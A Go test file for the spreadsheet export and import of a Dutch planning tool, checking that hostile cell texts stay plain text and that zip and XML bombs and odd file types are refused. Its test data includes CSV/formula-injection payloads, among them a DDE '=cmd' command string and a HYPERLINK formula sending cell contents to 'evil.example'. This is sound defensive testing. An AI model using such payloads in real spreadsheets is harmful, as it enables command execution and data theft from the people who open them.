package spreadsheet_test

import (
	"bytes"
	"cmp"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"maps"
	"math/rand/v2"
	"runtime"
	"slices"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"stappenplan/assets"
	"stappenplan/planfile"
	"stappenplan/planfile/xlsx"
	"stappenplan/steps"
)

// hostileCells are texts that a spreadsheet might take for something else, with what they are after cleaning.
var hostileCells = map[string]string{
	"=1+1": "", "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")": "", "=cmd|'/c calc'!A0": "", "+32 2 553 98 00": "", "- overleg plannen": "",
	"@SUM(1;2)": "", "\t=1+1": "", "\r=1+1": "\n=1+1", "＝1+1": "", "'=1+1": "", "1E5": "", "0012": "", "1-2": "", "TRUE": "", "#REF!": "", "WAAR": "",
	"_x000D_ _x0041_": "", "_x0041_x0042_": "", "_x005F_x0041_ _x005F_": "", "_x_x0041_": "", "_xD83D_": "",
	"een\r\ntwee\rdrie": "een\ntwee\ndrie", "a\x00b\x07\x0bc": "abc", "\x1b[31mrood\x1b[0m": "rood", "a\uFFFFb\uFFFE": "ab", "factuur\u202egpj.exe": "factuurgpj.exe",
	"<script>alert(1)</script>": "", "&lt;b&gt; &amp;amp; &#x1b;[31m": "", "https://evil.example/?x=1&y=2": "", "[klik](javascript:alert(1))": "",
	"👨‍👩‍👧‍👦 gezin 👩🏽‍🏫": "", "Zoe\u0308": "", "مدرسة 24": "", "  blanks  ": "", "a\tb": "", "✓ ☑ ĳ": "", "]]>": "", "{{.School}}": "", "\u200b\u2060": "",
	strings.Repeat("x", 32_767): "",
}

// TestHostileTextsStayText: they come back as they went, in cells that hold nothing but text.
func TestHostileTextsStayText(t *testing.T) {
	t.Parallel()
	var list []steps.Change
	cleaned := map[string]string{} // by the task whose note it is
	for i, hostile := range slices.Sorted(maps.Keys(hostileCells)) {
		task, member := assets.Catalogue().Tasks[i].ID, fmt.Sprintf("m%d", i)
		cleaned[task] = cmp.Or(hostileCells[hostile], steps.Clean(hostile))
		short := hostile[:min(len(hostile), 150)]
		list = append(list,
			steps.Change{Kind: steps.ChangeTask, Task: task, Note: steps.Set(hostile)},
			steps.Change{Kind: steps.ChangeMember, Member: member, Name: steps.Set("a" + short), Mandate: steps.Set(hostile)},
			steps.Change{Kind: steps.ChangeTask, Task: fmt.Sprintf("own-%d", i), Title: steps.Set("x" + short), Group: steps.Set("policy"), Owner: steps.Set(member)})
	}
	plan, err := steps.NewPlan(assets.Definitions()).Apply(steps.NewEntry("x", someDay, "", list...))
	if err != nil {
		t.Fatal(err)
	}
	data := encoded(t, plan, dutch)
	if changes := decoded(t, data, plan); len(changes) > 0 {
		t.Errorf("reads back with changes: %v", differences(t, changes, plan))
	}
	for name, part := range parts(t, data) {
		if err := wellFormed(part); err != nil {
			t.Errorf("%s: %v", name, err)
		}
		if strings.HasPrefix(name, "xl/worksheets/_rels") && strings.Contains(part, "hyperlink") {
			t.Errorf("%s makes a link", name)
		}
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cells := noteCells(t, f)
	for task, want := range cleaned {
		isText(t, f, cells[task], want)
	}
}

// isText looks with another reader at a cell: it holds a text, quoted where it might be more.
func isText(t *testing.T, f *excelize.File, at, want string) {
	t.Helper()
	got, _ := f.GetCellValue("Taken", at)
	formula, _ := f.GetCellFormula("Taken", at)
	kind, _ := f.GetCellType("Taken", at)
	overlooked := strings.Contains(want, "_x") // by excelize; ours is read back above
	if got != want && !overlooked && !steps.Blank(want) || formula != "" || kind != excelize.CellTypeSharedString && !steps.Blank(want) {
		t.Errorf("%.40q: the cell holds %.40q, formula %q, type %d", want, got, formula, kind)
	}
	style, _ := f.GetCellStyle("Taken", at)
	quoted := f.Styles.CellXfs.Xf[style].QuotePrefix
	if strings.ContainsAny(want[:1], "=+-@\t'1#0") && (quoted == nil || !*quoted) {
		t.Errorf("%q becomes something else when it is edited", want)
	}
}

// noteCells are the cells of the notes by the id of their task.
func noteCells(t *testing.T, f *excelize.File) map[string]string {
	t.Helper()
	rows, err := f.GetRows("Taken")
	if err != nil {
		t.Fatal(err)
	}
	headings, cells := rows[3], map[string]string{}
	note := slices.Index(headings, "Notitie") + 1
	for i, row := range rows {
		if len(row) == len(headings) {
			cells[row[len(row)-1]], _ = excelize.CoordinatesToCellName(note, i+1)
		}
	}
	return cells
}

func wellFormed(part string) error {
	for d := xml.NewDecoder(strings.NewReader(part)); ; {
		if _, err := d.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
	}
}

// TestTextsLongerThanACell are cut, and reading them back takes nothing away.
func TestTextsLongerThanACell(t *testing.T) {
	t.Parallel()
	for _, long := range []string{strings.Repeat("a", 32_768), strings.Repeat("漢", 90_000), strings.Repeat("😀", 20_000)} {
		plan, err := steps.NewPlan(assets.Definitions()).Apply(steps.NewEntry("x", someDay, "", steps.Change{
			Kind: steps.ChangeTask, Task: "wifi-management", Note: steps.Set(long),
		}))
		if err != nil {
			t.Fatal(err)
		}
		data := encoded(t, plan, dutch)
		if changes := decoded(t, data, plan); len(changes) > 0 {
			t.Errorf("%.6s…: %d changes", long, len(changes))
		}
		if text := parts(t, data)["xl/sharedStrings.xml"]; !strings.Contains(text, "…</t>") {
			t.Errorf("%.6s…: nothing says that it was cut", long)
		}
	}
}

// repeated is a workbook whose sheet, or another part, is a text many times over.
func repeated(t testing.TB, part, before, text, after string, size int) []byte {
	t.Helper()
	files := parts(t, encoded(t, steps.NewPlan(assets.Definitions()), dutch))
	files[part] = before + strings.Repeat(text, size/len(text)) + after
	return zipped(t, files)
}

// sheetOf is a workbook with this content in the sheet of the tasks.
func sheetOf(t testing.TB, content string) []byte {
	return repeated(t, tasksSheet, "<worksheet><sheetData>", content, "</sheetData></worksheet>", len(content))
}

// numbered are texts with their numbers, from 1.
func numbered(format string, n int) string {
	var b strings.Builder
	for i := 1; i <= n; i++ {
		fmt.Fprintf(&b, format, i)
	}
	return b.String()
}

func random(n int) []byte {
	data := make([]byte, n)
	for i, r := 0, rand.New(rand.NewPCG(1, 2)); i < n; i++ {
		data[i] = byte(r.Uint32())
	}
	return append([]byte("PK\x03\x04"), data...)
}

// TestBombs reads workbooks that are small and read as something large: reading ends, and in little memory. The long form
// has more.
func TestBombs(t *testing.T) {
	readBombs(t, map[string][]byte{
		"rows":        sheetOf(t, numbered(`<row r="%d"><c t="inlineStr"><is><t>Taak</t></is></c></row>`, 100_000)),
		"columns":     sheetOf(t, `<row>`+strings.Repeat(`<c><v>1</v></c>`, 200_000)+`</row>`),
		"far columns": sheetOf(t, numbered(`<row r="%d"><c r="XFD1"><v>1</v></c></row>`, 5000)),
		"attributes":  repeated(t, tasksSheet, "<worksheet ", ` a=""`, "/>", 7_000_000),
		"random":      random(1_000_000),
	})
}

func readBombs(t *testing.T, bombs map[string][]byte) {
	t.Helper()
	plan := steps.NewPlan(assets.Definitions())
	for name, data := range bombs {
		t.Run(name, func(t *testing.T) {
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			_, err := read(data, plan)
			runtime.ReadMemStats(&after)
			if err == nil {
				t.Error("read without a refusal")
			}
			if made := after.TotalAlloc - before.TotalAlloc; made > 200_000_000 { // all that was ever held, and more
				t.Errorf("takes %d MB", made/1_000_000)
			}
		})
	}
}

// TestOddFiles: each is refused with a sentence of its own.
func TestOddFiles(t *testing.T) {
	t.Parallel()
	plan := steps.NewPlan(assets.Definitions())
	good := parts(t, encoded(t, plan, dutch))
	without := func(part string) []byte {
		files := map[string]string{}
		for name, text := range good {
			if name != part {
				files[name] = text
			}
		}
		return zipped(t, files)
	}
	compound := "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + strings.Repeat("\x00", 504)
	lock := "\x05Excel" + strings.Repeat(" ", 49) + "\x05\x00E\x00x\x00c\x00e\x00l" + strings.Repeat(" \x00", 50)
	whole := encoded(t, plan, dutch)
	for name, c := range map[string]struct {
		data []byte
		code string
	}{
		".xls":              {[]byte(compound), "workbook-old-excel"},
		"a password":        {[]byte(compound + "E\x00n\x00c\x00r\x00y\x00p\x00t\x00e\x00d\x00P\x00a\x00c\x00k\x00a\x00g\x00e\x00"), "workbook-protected"},
		".xlsb":             {zipped(t, map[string]string{"xl/workbook.bin": "x", "_rels/.rels": good["_rels/.rels"]}), "workbook-binary"},
		".ods":              {zipped(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument.spreadsheet", "content.xml": "<a/>"}), "workbook-open-document"},
		"~$":                {[]byte(lock[:165]), "workbook-lock-file"},
		".docx":             {zipped(t, map[string]string{"word/document.xml": "<a/>", "_rels/.rels": strings.ReplaceAll(good["_rels/.rels"], "xl/workbook.xml", "word/document.xml")}), "workbook-document"},
		"a zip file":        {zipped(t, map[string]string{"foto.jpg": "x"}), "workbook-other"},
		"a missing sheet":   {without(teamSheet), "workbook-sheet-missing"},
		"no list of sheets": {without("xl/workbook.xml"), "workbook-broken"},
		"cut off":           {whole[:len(whole)/2], "workbook-broken"},
		"only PK":           {[]byte("PK not really a workbook"), "workbook-broken"},
		"broken XML":        {repeated(t, tasksSheet, "<worksheet><sheetData", "<", "", 10), "workbook-broken"},
	} {
		_, err := read(c.data, plan)
		problems, ok := err.(planfile.Errors)
		if !ok || problems.Code() != c.code {
			t.Errorf("%s: %v, want %s", name, err, c.code)
			continue
		}
		if said := dutch.Error(problems[0]); strings.Contains(said, "Er ging iets mis") || !strings.HasSuffix(said, ".") {
			t.Errorf("%s is said as %q", name, said)
		}
		if !xlsx.IsWorkbook(c.data) {
			t.Errorf("%s is taken for a plan file", name)
		}
	}
}

// TestSheetsThatOnlyHaveALook at the far end are no sheets of a million rows.
func TestSheetsThatOnlyHaveALook(t *testing.T) {
	t.Parallel()
	plan := steps.NewPlan(assets.Definitions())
	files := parts(t, encoded(t, plan, dutch))
	files[tasksSheet] = strings.Replace(files[tasksSheet], "</sheetData>", `<row r="1048576" ht="12"><c r="XFD1048576" s="1"/></row></sheetData>`, 1)
	if changes := decoded(t, zipped(t, files), plan); len(changes) > 0 {
		t.Errorf("%d changes", len(changes))
	}
}
